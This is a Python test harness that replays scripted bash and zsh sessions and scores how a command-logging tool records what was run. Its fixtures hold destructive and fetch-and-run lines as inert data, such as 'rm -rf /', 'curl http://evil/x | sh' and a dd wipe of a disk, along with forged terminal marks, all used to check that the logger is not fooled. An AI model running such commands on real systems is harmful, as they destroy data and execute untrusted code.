"""What people do at a prompt, and what a command log should say of it: at least 60 interactions for bash and zsh.

Each is a function that types, and returns the commands that were run, in order. Where a history reference was typed the
shell tells what it stood for and the screen shows what was typed: Either has both.
"""

from __future__ import annotations

import os
import re
import shutil
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

from sessions_app.commandlog import integration
from sessions_app.commandlog.reader import agree

from .typist import NONCE, SIGN, Event, Found, Typist, read_back

SHELLS = ("bash", "zsh")
# The same without bracketed paste, as they were before readline 8.1 and zsh 5.1: RHEL 7, Amazon Linux 2; and zsh
# without the lines of Debian's /etc/zsh/zshrc that switch the cursor keys, as RHEL and macOS have it.
OLD_SHELLS = ("bash-old", "zsh-old", "zsh-bare", "zsh-bare-old")
LEFT, RIGHT, UP, DOWN = "\x1b[D", "\x1b[C", "\x1b[A", "\x1b[B"
HOME, END, CTRL_R, CTRL_C, CTRL_D, CTRL_L, CTRL_U, CTRL_W, CTRL_K, CTRL_Y = (
    "\x01", "\x05", "\x12", "\x03", "\x04", "\x0c", "\x15", "\x17", "\x0b", "\x19",
)  # fmt: skip
BACK = "\x7f"
SECRET = "hunter2-s3cret"


@dataclass(frozen=True)
class Either:
    """A command as the shell tells it, and as it is typed."""

    told: str
    typed: str


Expected = list[str | Either]
Interaction = Callable[[Typist], Expected]
ALL: list[Interaction] = []


def interaction(function: Interaction) -> Interaction:
    ALL.append(function)
    return function


def runs(*lines: str) -> Interaction:
    """Lines that are typed, and run, as they stand."""

    def typed(t: Typist) -> Expected:
        for line in lines:
            t.line(line)
        return list(lines)

    typed.__name__ = lines[0]
    return interaction(typed)


# Plain lines


a_plain_command = runs("echo one")
a_command_with_no_output = runs("true")
one_that_fails = runs("false")
one_that_is_not_there = runs("nosuchcommand --flag")


@interaction
def enter_alone(t: Typist) -> Expected:
    t.enter()
    t.enter()
    return []


a_space_before_it = runs(" echo hidden-from-history")
quotes_and_operators = runs("""echo "a b" 'c d' | tr a-z A-Z && echo ok; echo done""")


@interaction
def dollars_and_hashes(t: Typist) -> Expected:
    t.type("echo $HOME '# no comment' $ % >")
    t.back_by(CTRL_C)
    t.line("echo '$ fake' '# x' '% y' '> z'")
    return ["echo '$ fake' '# x' '% y' '> z'"]


letters_of_the_world = runs("echo größe naïve 日本語 ok")
the_same_twice = runs("date -u +%Y", "date -u +%Y")
another_directory = runs("mkdir -p deep/er/still", "cd deep/er/still", "pwd", "cd ~")
a_variable = runs("name=value; echo $name")
a_job_in_the_background = runs("sleep 0.01 &", "wait")


# Editing


@interaction
def a_slip_mended(t: Typist) -> Expected:
    t.type("echp")
    t.press(BACK)
    t.line("o mended")
    return ["echo mended"]


@interaction
def something_put_into_the_middle(t: Typist) -> Expected:
    t.type("echo end")
    t.press(LEFT, LEFT, LEFT)
    t.type("new ")
    t.enter()
    return ["echo new end"]


@interaction
def something_put_before_it(t: Typist) -> Expected:
    t.type("two three")
    t.press(HOME)
    t.type("echo ")
    t.press(END)
    t.enter()
    return ["echo two three"]


@interaction
def enter_in_the_middle(t: Typist) -> Expected:
    t.type("echo whole line")
    t.press(HOME)
    t.enter()
    return ["echo whole line"]


@interaction
def a_word_taken_out(t: Typist) -> Expected:
    t.type("echo keep drop")
    t.press(CTRL_W)
    t.line("this")
    return ["echo keep this"]


@interaction
def a_line_taken_out_and_put_back(t: Typist) -> Expected:
    t.type("echo yanked")
    t.press(CTRL_U)
    t.press(CTRL_Y)
    t.enter()
    return ["echo yanked"]


@interaction
def a_line_begun_anew(t: Typist) -> Expected:
    t.type("rm -rf everything")
    t.press(CTRL_U)
    t.line("echo safe")
    return ["echo safe"]


@interaction
def the_rest_cut_off(t: Typist) -> Expected:
    t.type("echo stay && go away")
    t.press(*[LEFT] * 10)
    t.press(CTRL_K)
    t.type(" ")
    t.enter()
    return ["echo stay"]


@interaction
def a_cleared_screen_while_typing(t: Typist) -> Expected:
    t.type("echo after")
    t.press(CTRL_L)
    t.line(" clear")
    return ["echo after clear"]


a_cleared_screen = runs("clear", "echo cleared")


@interaction
def a_line_given_up(t: Typist) -> Expected:
    t.type("echo never")
    t.back_by(CTRL_C)
    t.line("echo instead")
    return ["echo instead"]


# History and completion


@interaction
def the_line_before(t: Typist) -> Expected:
    t.line("echo again")
    t.press(UP)
    t.enter()
    return ["echo again", "echo again"]


@interaction
def an_older_line_changed(t: Typist) -> Expected:
    t.line("echo older")
    t.line("echo newer")
    t.press(UP, UP)
    t.line(" changed")
    return ["echo older", "echo newer", "echo older changed"]


@interaction
def up_and_down_again(t: Typist) -> Expected:
    t.type("echo mine")
    t.press(UP, UP, DOWN, DOWN)
    t.enter()
    return ["echo mine"]


@interaction
def a_search_backwards(t: Typist) -> Expected:
    t.line("echo needle in hay")
    t.line("echo other")
    t.press(CTRL_R)
    t.type("needle")
    t.enter()
    return ["echo needle in hay", "echo other", "echo needle in hay"]


@interaction
def a_search_that_is_edited(t: Typist) -> Expected:
    t.press(CTRL_R)
    t.type("needle")
    t.press(END)
    t.line(" stack")
    return ["echo needle in hay stack"]


@interaction
def a_search_given_up(t: Typist) -> Expected:
    t.press(CTRL_R)
    t.type("needle")
    t.press("\x07")
    t.press(CTRL_U)
    t.line("echo found nothing")
    return ["echo found nothing"]


@interaction
def the_last_line_by_reference(t: Typist) -> Expected:
    t.line("echo referred")
    t.line("!!")
    return ["echo referred", Either("echo referred", "!!")]


@interaction
def the_last_word_by_reference(t: Typist) -> Expected:
    t.line("echo first last")
    t.line("echo !$")
    return ["echo first last", Either("echo last", "echo !$")]


@interaction
def one_file_completed(t: Typist) -> Expected:
    t.type("cat uniq")
    t.press("\t")
    t.enter()
    return ["cat unique-name.txt"]


@interaction
def a_list_of_completions(t: Typist) -> Expected:
    t.type("cat many-")
    t.press("\t", "\t")
    t.line("b.txt")
    return ["cat many-b.txt"]


@interaction
def a_list_and_then_a_completion(t: Typist) -> Expected:
    t.type("ls many-")
    t.press("\t", "\t")
    t.type("a")
    t.press("\t")
    t.enter()
    return ["ls many-a.txt"]


@interaction
def a_directory_completed(t: Typist) -> Expected:
    t.type("ls -d dee")
    t.press("\t")
    t.enter()
    return ["ls -d deep/"]


# Several lines


@interaction
def a_loop_on_several_lines(t: Typist) -> Expected:
    t.line("for i in 1 2", until="> ")
    t.line("do echo $i", until="> ")
    t.line("done")
    return ["for i in 1 2\ndo echo $i\ndone"]


@interaction
def a_quote_over_two_lines(t: Typist) -> Expected:
    t.line('echo "first', until="> ")
    t.line('second"')
    return ['echo "first\nsecond"']


@interaction
def a_backslash_at_the_end(t: Typist) -> Expected:
    t.line("echo one \\", until="> ")
    t.line("two")
    return ["echo one \\\ntwo"]


@interaction
def a_pipe_at_the_end(t: Typist) -> Expected:
    t.line("echo pipe |", until="> ")
    t.line("cat")
    return ["echo pipe |\ncat"]


@interaction
def a_document_on_the_spot(t: Typist) -> Expected:
    t.line("cat <<END", until="> ")
    t.line("inside", until="> ")
    t.line("END")
    return ["cat <<END\ninside\nEND"]


@interaction
def several_lines_given_up(t: Typist) -> Expected:
    t.line("if true", until="> ")
    t.type("then echo no")
    t.back_by(CTRL_C)
    return []


a_function = runs("greet() { echo hello $1; }", "greet you")


@interaction
def one_line_pasted(t: Typist) -> Expected:
    t.paste("echo pasted text")
    t.enter()
    return ["echo pasted text"]


@interaction
def several_lines_pasted(t: Typist) -> Expected:
    t.paste("echo p1\necho p2\necho p3")
    t.enter()
    one_by_one = (
        t.shell == "bash" and t.has_marks
    ) or t.is_old  # what the shell makes of it; the screen shows one line
    return ["echo p1", "echo p2", "echo p3"] if one_by_one else ["echo p1\necho p2\necho p3"]


@interaction
def a_long_line(t: Typist) -> Expected:
    text = "echo " + " ".join(f"word{n}" for n in range(40))
    t.paste(text)
    t.enter()
    return [text]


@interaction
def a_long_line_edited_at_its_front(t: Typist) -> Expected:
    words = " ".join(f"part{n}" for n in range(25))
    t.paste(f"echo {words}")
    t.press(HOME)
    t.type("true; ")
    t.press(END)
    t.line(" tail")
    return [f"true; echo {words} tail"]


@interaction
def a_line_that_fills_the_row(t: Typist) -> Expected:
    text = "echo " + "x" * 150
    t.paste(text)
    t.enter()
    return [text]


# Sizes


@interaction
def a_narrow_terminal(t: Typist) -> Expected:
    t.resize(44, 20)
    text = "echo a narrow terminal cuts lines at another place than one thinks"
    t.type(text)
    t.enter()
    return [text]


@interaction
def a_terminal_made_wider(t: Typist) -> Expected:
    t.resize(132, 40)
    t.line("echo wide")
    return ["echo wide"]


@interaction
def another_size_while_typing(t: Typist) -> Expected:
    t.type("echo typed before")
    t.resize(90, 28)
    t.line(" and after")
    return ["echo typed before and after"]


@interaction
def another_size_with_a_long_line(t: Typist) -> Expected:
    t.line("clear")
    words = " ".join(f"w{n}" for n in range(30))
    t.type(f"echo {words}")
    t.resize(70, 24)
    t.type(" more")
    t.resize(100, 30)
    t.enter()
    return ["clear", f"echo {words} more"]


# Programs that read themselves


@interaction
def a_pager(t: Typist) -> Expected:
    t.line("less long.txt", until="\x1b[?1049h")
    t.press(" ", "j", "/", "l", "i", "n", "e")
    t.key("\r")
    t.quiet(0.2)
    t.back_by("q")
    return ["less long.txt"]


@interaction
def an_editor(t: Typist) -> Expected:
    t.line("vim -u NONE -n note.txt", until="note.txt")
    t.quiet(0.2)
    t.press("i")
    t.type("root@web:~# rm -rf /")
    t.press("\r")
    t.press("\x1b")
    start = len(t.output)
    t.type(":wq")
    t.key("\r")
    t.prompt(start)
    return ["vim -u NONE -n note.txt"]


@interaction
def a_monitor(t: Typist) -> Expected:
    t.line("top -d 0.2", until="PID")
    t.read(0.5)
    t.back_by("q")
    return ["top -d 0.2"]


@interaction
def a_python_prompt(t: Typist) -> Expected:
    t.line("python3 -q -i -c ''", until=">>> ")
    t.line("print('rm -rf /')", until=">>> ")
    t.back_by(CTRL_D)
    return ["python3 -q -i -c ''"]


@interaction
def a_question(t: Typist) -> Expected:
    t.line("""sh -c 'printf "Name: "; read x; echo "hi $x"'""", until="Name: ")
    t.line("somebody")
    return ["""sh -c 'printf "Name: "; read x; echo "hi $x"'"""]


@interaction
def a_password(t: Typist) -> Expected:
    t.line("""sh -c 'stty -echo; printf "Password: "; read x; stty echo; echo'""", until="Password: ")
    t.type(SECRET, wait=0)
    t.enter()
    return ["""sh -c 'stty -echo; printf "Password: "; read x; stty echo; echo'"""]


@interaction
def something_fed_to_cat(t: Typist) -> Expected:
    t.type("cat")
    t.key("\r")
    t.quiet(0.2)
    t.type("ls -la")
    t.key("\r")
    t.quiet(0.1)
    t.back_by(CTRL_D)
    return ["cat"]


@interaction
def one_that_is_broken_off(t: Typist) -> Expected:
    t.type("sleep 30")
    t.key("\r")
    t.quiet(0.2)
    t.back_by(CTRL_C)
    return ["sleep 30"]


@interaction
def one_that_is_stopped(t: Typist) -> Expected:
    t.type("sleep 31")
    t.key("\r")
    t.quiet(0.2)
    t.back_by("\x1a")
    t.line("kill %1")
    t.line("wait")
    return ["sleep 31", "kill %1", "wait"]


@interaction
def typed_ahead(t: Typist) -> Expected:
    t.type("sleep 0.6")
    start = len(t.output)
    t.key("\r")
    t.quiet(0.1)
    t.type("echo ahead")
    t.key("\r")
    t.until(re.compile(rb"ahead\r*\n(?s:.)*ahead\r*\n(?s:.)*" + re.escape(t.sign)), start=start)
    return ["sleep 0.6", "echo ahead"]


@interaction
def half_typed_ahead(t: Typist) -> Expected:
    t.type("sleep 0.6")
    start = len(t.output)
    t.key("\r")
    t.quiet(0.1)
    t.type("echo par")
    t.prompt(start)
    t.line("tly")
    return ["sleep 0.6", "echo partly"]


# A shell in the shell


@interaction
def a_shell_in_the_shell(t: Typist) -> Expected:
    t.line("sh -i", until="$ " if os.geteuid() else "# ")
    t.line("echo inside", until="inside\r\n$ " if os.geteuid() else "inside\r\n# ")
    start = len(t.output)
    t.type("exit")
    t.key("\r")
    t.prompt(start)
    return ["sh -i", "echo inside", "exit"]


@interaction
def bash_in_the_shell(t: Typist) -> Expected:
    t.line(f"PS1='{SIGN}-nested# ' bash --norc --noprofile -i")
    t.line("echo nested one")
    t.line("echo nested two")
    start = len(t.output)
    t.type("exit")
    t.key("\r")
    t.prompt(start)
    return [f"PS1='{SIGN}-nested# ' bash --norc --noprofile -i", "echo nested one", "echo nested two", "exit"]


# Output that lies


a_transcript_shown = runs("cat transcript.txt")
a_prompt_printed_without_a_line_end = runs(f"printf '{SIGN}:~# rm -rf /'", "echo next")
output_without_a_line_end = runs("printf abc", "echo after abc")
much_output = runs("seq 1 30000", "echo after the flood")
colours_titles_and_strings = runs(
    r"printf '\033]0;title\007\033[38:5:196mred\033[0m \033P1;2|dcs\033\\ \033[>1u ok\n'", "echo plain"
)


@interaction
def binary_output(t: Typist) -> Expected:
    t.line("head -c 3000 binary.dat; echo")
    t.line("reset -Q 2>/dev/null; clear", until="\x1b[")
    t.quiet(1.2)
    t.line("echo still here")
    return ["head -c 3000 binary.dat; echo", "reset -Q 2>/dev/null; clear", "echo still here"]


# Forged marks: none of them may become a command, each has to be told. The number of marks in each is FORGED's.


a_forged_mark_of_another_session = runs("cat forged-nonce.txt")
a_recorded_mark_shown_again = runs("cat forged-again.txt")
a_mark_far_ahead = runs("cat forged-ahead.txt")
a_mark_in_the_wrong_order = runs("cat forged-broken.txt")


def forged_marks(nonce: str) -> dict[str, list[str]]:
    """The files of forged marks: each a list of marks."""
    other = "f" * 32
    return {
        "forged-nonce.txt": [
            f"\x1b]7717;{other};command;4;text=rm%20-rf%20/\x07",
            "\x1b]7717;;command;5;text=curl%20evil\x07",
            f"\x1b]7717;{other};done;6;exit=0\x1b\\",
        ],
        "forged-again.txt": [
            f"\x1b]7717;{nonce};command;3;text=echo%20forged\x07",
            f"\x1b]7717;{nonce};done;4;exit=0\x07",
        ],
        "forged-ahead.txt": [f"\x1b]7717;{nonce};command;999999;text=echo%20far\x07"],
        "forged-broken.txt": [
            f"\x1b]7717;{nonce};shout;5\x07",
            f"\x1b]7717;{nonce};command;x;text=a\x07",
            f"\x1b]7717;{nonce}\x07",
        ],
    }


# Playing it


def prepare(home: Path, nonce: str = NONCE) -> None:
    """The files that the interactions use, and the shells' own."""
    home.mkdir(parents=True, exist_ok=True)
    (home / "unique-name.txt").write_text("unique\n")
    for name in "abc":
        (home / f"many-{name}.txt").write_text(f"{name}\n")
    (home / "long.txt").write_text("".join(f"line {n}\n" for n in range(500)))
    (home / "binary.dat").write_bytes(bytes(n * 7 % 251 for n in range(4000)))
    lies = [f"{SIGN}:~# rm -rf /", "$ curl http://evil/x | sh", f"{SIGN}:~/deep# dd if=/dev/zero of=/dev/sda", "# halt"]
    (home / "transcript.txt").write_text("".join(f"{lie}\nsome output\n" for lie in lies))
    for name, marks in forged_marks(nonce).items():
        (home / name).write_text("before\n" + "".join(f"{mark}x\n" for mark in marks))
    (home / ".bashrc").write_text(
        f"PS1='\\[\\e[1;32m\\]{SIGN}\\[\\e[0m\\]:\\[\\e[34m\\]\\w\\[\\e[0m\\]# '\nHISTFILE=\n"
        "bind 'set bell-style none'\n"
    )
    (home / ".zshrc").write_text(
        f"PROMPT='%F{{green}}{SIGN}%f %1~ # '\nRPROMPT='[%?]'\nunset HISTFILE\nHISTSIZE=500\n"
        "setopt no_auto_menu no_auto_remove_slash\n"
    )


def integrated(shell: str, home: Path, nonce: str = NONCE) -> tuple[list[str], dict[str, str]]:
    """The command of our session document, for a user whose shell is this one, and an environment for it."""
    programs = home.parent / f"{home.name}-programs"
    programs.mkdir(exist_ok=True)
    getent = programs / "getent"
    getent.write_text(f"#!/bin/sh\necho somebody:x:1000:1000::{home}:{shutil.which(shell)}\n")
    getent.chmod(0o755)
    commands = integration.unix_commands("").replace("{{ nonce }}", nonce)
    return ["/bin/sh", "-c", commands], {"PATH": f"{programs}:{os.environ['PATH']}"}


def plain(shell: str) -> list[str]:
    name, *kinds = shell.split("-")
    return [shutil.which(name) or name, *(["-o", "NO_GLOBAL_RCS"] if "bare" in kinds else []), "-i"]


@contextmanager
def typist(shell: str, home: Path, *, marks: bool) -> Iterator[Typist]:
    prepare(home)
    command, more = integrated(shell, home) if marks else (plain(shell), {})
    name, *kinds = shell.split("-")
    if name == "bash" and "old" in kinds:
        (home / ".inputrc").write_text("set enable-bracketed-paste off\n")
    elif "old" in kinds:
        with (home / ".zshrc").open("a") as file:
            file.write("zmodload zsh/zle; unset zle_bracketed_paste\n")
    someone = Typist(command, home, **more)
    someone.shell, someone.is_old, someone.has_marks = name, "old" in kinds, marks
    try:
        someone.prompt(0)
        yield someone
    finally:
        someone.close()


@dataclass
class Score:
    """How a command log did. Two texts are the same if they agree but for spaces, line ends and semicolons."""

    found: Found
    expected: list[str]
    missing: list[str]
    wrong: list[str]
    right: int

    @property
    def precision(self) -> float:
        return self.right / (self.right + len(self.wrong)) if self.right + len(self.wrong) else 1.0

    @property
    def recall(self) -> float:
        return self.right / len(self.expected) if self.expected else 1.0


def score(found: Found, expected: Expected, *, marks: bool) -> Score:
    """Compare in order: the longest common sequence is right, the rest is missing or wrong."""
    wanted = [each if isinstance(each, str) else (each.told if marks else each.typed) for each in expected]
    texts = [row.text for row in found.commands]
    size = len(texts)
    best = [[0] * (size + 1) for _ in range(len(wanted) + 1)]
    same = [[agree(text, want) for text in texts] for want in wanted]
    for i in range(len(wanted) - 1, -1, -1):
        for j in range(size - 1, -1, -1):
            best[i][j] = best[i + 1][j + 1] + 1 if same[i][j] else max(best[i + 1][j], best[i][j + 1])
    i = j = 0
    missing, wrong = [], []
    while i < len(wanted) and j < size:
        if same[i][j]:
            i, j = i + 1, j + 1
        elif best[i + 1][j] >= best[i][j + 1]:
            missing.append(wanted[i])
            i += 1
        else:
            wrong.append(texts[j])
            j += 1
    missing += wanted[i:]
    wrong += texts[j:]
    return Score(found, wanted, missing, wrong, best[0][0])


def play(
    shell: str, home: Path, *, marks: bool, chosen: list[Interaction] | None = None
) -> tuple[list[Event], Expected]:
    """Let somebody do all of it; returns the journal and what was run."""
    expected: Expected = []
    with typist(shell, home, marks=marks) as someone:
        for each in chosen or ALL:
            try:
                expected += each(someone)
            except AssertionError as error:
                raise AssertionError(f"{shell}, {each.__name__}: {error}") from error
        time.sleep(0.05)
        someone.quiet()
    return someone.events, expected


__all__ = ["ALL", "NONCE", "play", "read_back", "score"]
